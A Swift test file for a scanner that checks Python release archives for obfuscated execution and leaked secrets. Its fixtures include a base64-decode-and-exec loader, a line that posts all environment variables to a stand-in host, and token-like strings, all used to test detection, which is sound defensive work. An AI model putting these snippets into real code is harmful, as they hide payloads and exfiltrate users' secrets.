import Archives
import Findings
import Scanning
import Testing

@Suite("A look into files") struct ReleaseScannerTests {
    private static func file(_ path: String, _ text: String) -> ArchiveFile {
        ArchiveFile(path: path, content: Array(text.utf8), size: Int64(text.utf8.count))
    }

    private static func look(
        _ files: [ArchiveFile], in subject: ReleaseScanner.Subject = .sdist, within bounds: ScanBounds = ScanBounds()
    ) throws -> Look {
        ReleaseScanner(try RuleSet.builtIn(), within: bounds).look(at: files, in: subject)
    }

    private static let decoded = "import base64\nexec(base64.b64decode(DATA))\n"

    @Test("tells what it found in the order of paths and lines, with the version of the rules")
    func order() throws {
        let look = try Self.look([
            Self.file("d/b.py", Self.decoded + "exec(base64.b64decode(X))\n"), Self.file("d/a.py", Self.decoded),
        ])
        let found = look.findings.filter { $0.rule == "decoded-and-executed" }
        #expect(found.map(\.path) == ["d/a.py", "d/b.py", "d/b.py"])
        #expect(found.map(\.line) == [2, 2, 3])
        #expect(found.map(\.evidence).first == "exec(base64.b64decode(DATA))")
        #expect(look.version == (try RuleSet.builtIn().version))
        #expect(look.end == .complete)
    }

    static let rows: [(String, Severity)] = [
        ("demo-1.0/demo/a.py", .high),
        ("demo-1.0/setup.py", .high),
        ("demo-1.0/demo/_vendor/a.py", .medium),
        ("demo-1.0/tests/a.py", .low),
        ("demo-1.0/docs/a.py", .low),
        ("demo-1.0/demo/test_a.py", .low),
        ("demo-1.0/demo/_vendor/tests/a.py", .note),
        ("demo-1.0/demo/contest/a.py", .high),
    ]

    @Test("weighs less in tests, documentation and copies of other packages", arguments: rows)
    func places(path: String, severity: Severity) throws {
        let found = try Self.look([Self.file(path, Self.decoded)]).findings.filter { $0.rule == "decoded-and-executed" }
        #expect(found.map(\.severity) == [severity])
    }

    @Test("ends at its bounds and says which")
    func bounds() throws {
        var bounds = ScanBounds()
        bounds.files = 2
        let files = (1...3).map { Self.file("d/a\($0).py", Self.decoded) }
        let look = try Self.look(files, within: bounds)
        #expect(Set(look.findings.map(\.path)) == ["d/a1.py", "d/a2.py"])
        #expect(look.end == .bounded("more than 2 files"))

        bounds = ScanBounds()
        bounds.codeBytes = 1 << 20
        let long = Self.file("d/long.py", Self.decoded + String(repeating: "#\n", count: 1 << 20))
        guard case .bounded(let words) = try Self.look([long], within: bounds).end else {
            Issue.record("a file beyond the bound was looked at whole")
            return
        }
        #expect(words.contains("d/long.py"))
    }

    @Test("sees what is run out of a constant, at the line that runs it")
    func embedded() throws {
        let text = "exec(\"import os, requests\\nrequests.post('https://host.test/', json=dict(os.environ))\")\n"
        let found = try Self.look([Self.file("d/a.py", text)]).findings
        #expect(found.contains { $0.rule == "secrets-sent" && $0.line == 1 })
    }

    @Test("tells a secret to the project alone, and shows four characters of it")
    func secret() throws {
        let token = "gh" + "p_Zq8LmW3xTn5VbR7yKc2DsJ4fHg6PeA9uBvXk"
        let finding = try #require(try Self.look([Self.file("d/a.txt", "x = \(token)\n")]).findings.first)
        #expect(finding.rule == "service-token")
        #expect(finding.isConfidential)
        #expect(finding.evidence == "service token: ghp_…")
    }

    static let examples = [
        "AKIAIOSFODNN7EXAMPLE", "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "ghp_" + String(repeating: "a1", count: 18),
        "pypi-AgEIcHlwaS5vcmcCJDEXAMPLEexampleEXAMPLEexampleEXAMPLEexampleEXAMPLE",
    ]

    @Test("takes no example for a secret", arguments: examples)
    func example(text: String) throws {
        #expect(try Self.look([Self.file("d/a.txt", "key = \(text)\n")]).findings.isEmpty)
    }

    @Test("of a file without a word that rules name costs one pass")
    func plain() throws {
        let text = String(repeating: "value = table[number] + 1  # plain\n", count: 100_000)
        #expect(try Self.look([Self.file("d/a.py", text)]).findings.isEmpty)
    }

    @Test("takes whatever it is given")
    func anything() throws {
        var state: UInt64 = 42
        func random() -> UInt8 {
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            return UInt8(truncatingIfNeeded: state >> 33)
        }
        let scanner = ReleaseScanner(try RuleSet.builtIn())
        let seed = Array(Self.decoded.utf8)
        for length in 0..<300 {
            var bytes = (0..<length).map { _ in random() }
            if length % 3 == 0 { bytes = seed.map { random() < 20 ? random() : $0 } }
            for path in ["a.py", "a.pth", "a.txt", "a.zip"] {
                _ = scanner.look(at: [ArchiveFile(path: path, content: bytes, size: Int64(bytes.count))])
            }
        }
    }
}
